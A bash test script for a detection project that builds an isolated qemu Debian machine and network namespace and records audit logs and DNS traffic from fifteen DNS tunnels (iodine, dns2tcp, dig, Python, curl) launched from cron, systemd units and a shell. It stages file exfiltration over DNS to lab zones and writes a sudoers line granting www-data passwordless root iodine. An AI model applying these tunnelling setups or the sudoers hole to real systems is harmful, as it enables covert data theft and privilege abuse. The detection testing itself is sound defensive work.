#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Records how a real Linux machine and the wire beside it see fifteen tunnels: iodine, dns2tcp, a loop
# around dig, a program in Python and a loop around curl, each from cron, from a unit of systemd and
# from a shell whose streams are a connection. The machine is a Debian of its own in qemu: systemd is
# its first process, auditd runs with the rules of docs/guide/linux-audit.md and nothing else, cron,
# lighttpd and sudo are the distribution's. The world around it is a network namespace. Nothing leaves
# the machine but the requests for packages.
#
#	tests/scenarios/record_linux.sh FOLDER [ROOT]
#
# Writes FOLDER/audit.log and FOLDER/wire.pcap, which is port 53 as the world's end of the cable sees
# it. ROOT is where the machine's files are made, or already are. BOOT is how many seconds the machine
# takes to be up (60), ACCEL how qemu runs it (kvm; tcg works everywhere, with a BOOT of 200). Needs
# root, debootstrap, qemu-system-x86, e2fsprogs, iproute2, net-tools, tcpdump, dnsmasq, iodine, dns2tcp
# and python3; takes twenty-five minutes.
set -eu

out=$(realpath "$1")
lab=$(realpath "$(dirname "$0")")/linux_lab
guide=$lab/../../../docs/guide/linux-audit.md
here=$(mktemp -d)
root=${2:-$here/root}
world=edw$$
ship=/usr/local/lib/ship
file=/usr/share/common-licenses/Artistic

finish() {
	ip netns pids $world 2>/dev/null | xargs -r kill 2>/dev/null || true
	ip netns del $world 2>/dev/null || true
	rm -rf "$here"
}
trap finish EXIT

# ------------------------------------------------------------ the machine

make_root() {
	debootstrap --variant=minbase --include=systemd,systemd-sysv,udev,dbus,auditd,cron,iodine,dns2tcp,\
bind9-dnsutils,curl,python3-minimal,perl,lighttpd,sudo,iputils-ping,net-tools,procps,kmod,initramfs-tools,\
linux-image-cloud-amd64 bookworm "$root"
}

# The rules of the guide, to the letter.
rules() {
	sed -n '/^## The rules/,/^`\/etc\/audit\/auditd.conf/p' "$guide" | sed -n '/^-/p'
}

unit() {
	local tool=$1 user=$2 at=$3 command=$4 then=${5:-}

	cat >"$root/etc/systemd/system/ship-$tool.service" <<-END
		[Service]
		User=$user
		ExecStart=$command
		${then:+ExecStartPost=$then}
		RuntimeMaxSec=${6:-42}
	END
	cat >"$root/etc/systemd/system/ship-$tool.timer" <<-END
		[Timer]
		OnCalendar=$(date -u -d "@$at" '+%F %T UTC')
		AccuracySec=1s
		[Install]
		WantedBy=timers.target
	END
	ln -sf "/etc/systemd/system/ship-$tool.timer" "$root/etc/systemd/system/timers.target.wants/"
}

zone() {
	awk -v o="$1" -v t="$2" '$1 == o && $2 == t { print $3 }' "$lab/cells.tsv"
}

job() {
	echo "$(date -u -d "@$1" '+%M %H') * * * $2 $3"
}

prepare() {
	local etc=$root/etc

	echo web1 >"$etc/hostname"
	printf '127.0.0.1 localhost\n127.0.1.1 web1\n' >"$etc/hosts"
	rm -f "$etc/resolv.conf"
	echo 'nameserver 192.0.2.53' >"$etc/resolv.conf"
	printf '[Match]\nType=ether\n[Network]\nAddress=192.0.2.10/24\nGateway=192.0.2.53\n' \
		>"$etc/systemd/network/10-wire.network"
	ln -sf /lib/systemd/system/systemd-networkd.service "$etc/systemd/system/multi-user.target.wants/"
	echo tun >"$etc/modules-load.d/tun.conf"
	echo '/dev/vda / ext4 defaults 0 1' >"$etc/fstab"
	rules >"$etc/audit/rules.d/50-dns.rules"
	sed -i -e 's/^log_format.*/log_format = ENRICHED/' -e 's/^name_format.*/name_format = HOSTNAME/' \
		-e 's/^max_log_file .*/max_log_file = 100/' "$etc/audit/auditd.conf"
	mkdir -p "$root$ship" "$root/usr/lib/cgi-bin" "$etc/systemd/system/timers.target.wants"
	install -m 755 "$lab"/*.sh "$lab/query.py" "$root$ship/"
	install -m 755 "$lab/ping.cgi" "$root/usr/lib/cgi-bin/"
	ln -sf ../conf-available/10-cgi.conf "$etc/lighttpd/conf-enabled/"
	ln -sf /lib/systemd/system/lighttpd.service "$etc/systemd/system/multi-user.target.wants/"
	echo 'www-data ALL=(root) NOPASSWD: /usr/sbin/iodine' >"$etc/sudoers.d/tunnel"
	chmod 440 "$etc/sudoers.d/tunnel"
}

# When what happens: the minute @1 is cron's first.
schedule() {
	local t=$1

	{
		job "$t" root "$ship/iodine.sh $(zone cron iodine) 10.9.1.1"
		job $((t + 60)) backup "$ship/dns2tcp.sh $(zone cron dns2tcp)"
		job $((t + 180)) backup "$ship/dig.sh $(zone cron dig) $file >/dev/null"
		job $((t + 120)) www-data "$ship/query.py $(zone cron python) 192.0.2.53 $file"
		job $((t + 300)) www-data "$ship/curl.sh $(zone cron curl) $file"
	} >"$root/etc/cron.d/ship"
	sed -i '1i PATH=/usr/sbin:/usr/bin:/sbin:/bin' "$root/etc/cron.d/ship"
	unit iodine root $((t + 420)) "/usr/sbin/iodine -f -r -P secret 198.51.100.55 $(zone unit iodine)" \
		"$ship/fetch.sh http://10.9.2.1/page"
	unit dns2tcp nobody $((t + 475)) \
		"/usr/bin/dns2tcpc -r page -z $(zone unit dns2tcp) -l 9000 192.0.2.53" \
		"$ship/fetch.sh http://127.0.0.1:9000/page"
	unit dig news $((t + 575)) "$ship/dig.sh $(zone unit dig) $file" '' 95
	unit python news $((t + 525)) \
		"/usr/bin/python3 $ship/query.py $(zone unit python) 198.51.100.53 $file"
	unit curl nobody $((t + 675)) "$ship/curl.sh $(zone unit curl) $file" '' 95
	unit off root $((t + 1185)) "/bin/systemctl poweroff"
}

# -------------------------------------------------------------- the world

in_world() {
	ip netns exec $world "$@"
}

tunnel_servers() {
	local i=0 port origin

	mkfifo "$here/silence" # dns2tcpd reads its standard input over and over at its end
	for origin in cron unit shell; do
		i=$((i + 1))
		port=$((5310 + i))
		local where="-l 127.0.0.1 -p $port"
		[ $origin = unit ] && where="-l 198.51.100.55"
		# shellcheck disable=SC2086
		in_world iodined -f -c -P secret $where -d edi$i "10.9.$i.1/27" "$(zone $origin iodine)" \
			>/dev/null 2>&1 &
		cat >"$here/dns2tcpd$i" <<-END
			listen = 127.0.0.1
			port = $((5320 + i))
			user = nobody
			chroot = /
			domain = $(zone $origin dns2tcp)
			resources = page:127.0.0.1:80
		END
		in_world dns2tcpd -F -f "$here/dns2tcpd$i" <>"$here/silence" >/dev/null 2>&1 &
		echo "server=/$(zone $origin iodine)/127.0.0.1#$port"
		echo "server=/$(zone $origin dns2tcp)/127.0.0.1#$((5320 + i))"
		for tool in dig python curl; do
			echo "server=/$(zone $origin $tool)/127.0.0.1#5300"
		done
	done >"$here/dnsmasq.conf"
}

build_world() {
	ip netns add $world
	ip -n $world tuntap add t0 mode tap
	ip -n $world link set lo up
	ip -n $world addr add 192.0.2.53/24 dev t0
	for a in 198.51.100.53 198.51.100.55 198.51.100.9 198.51.100.7 203.0.113.80; do
		ip -n $world addr add $a/32 dev t0
	done
	ip -n $world link set t0 up
	tunnel_servers
	in_world dnsmasq --no-daemon --no-resolv --no-hosts --conf-file="$here/dnsmasq.conf" \
		--listen-address=192.0.2.53 --bind-interfaces --cache-size=0 --address=/#/203.0.113.80 \
		--dns-forward-max=1000 >/dev/null 2>&1 &
}

[ -d "$root/etc" ] || make_root
start=$(((($(date +%s) + ${BOOT:-60}) / 60 + 1) * 60))
prepare
schedule $start
mke2fs -q -F -t ext4 -d "$root" "$here/disk" 3G
build_world
in_world tcpdump -i t0 -U -w "$out/wire.pcap" 'port 53 or ip[6:2] & 0x1fff != 0' 2>/dev/null &
in_world python3 "$lab/world.py" "$lab/cells.tsv" $((start + 780)) 2>"$out/world.txt" &
in_world setsid -w qemu-system-x86_64 -accel "${ACCEL:-kvm}" -m 1024 -nographic -no-reboot \
	-kernel "$(echo "$root"/boot/vmlinuz-*)" -initrd "$(echo "$root"/boot/initrd.img-*)" \
	-append 'root=/dev/vda rw console=ttyS0 quiet no_timer_check' -drive "file=$here/disk,format=raw,if=virtio" \
	-netdev tap,id=n,ifname=t0,script=no,downscript=no -device virtio-net-pci,netdev=n \
	-rtc base=utc </dev/null >"$out/console.txt"
debugfs -R "dump /var/log/audit/audit.log $out/audit.log" "$here/disk" 2>/dev/null
ls -l "$out"
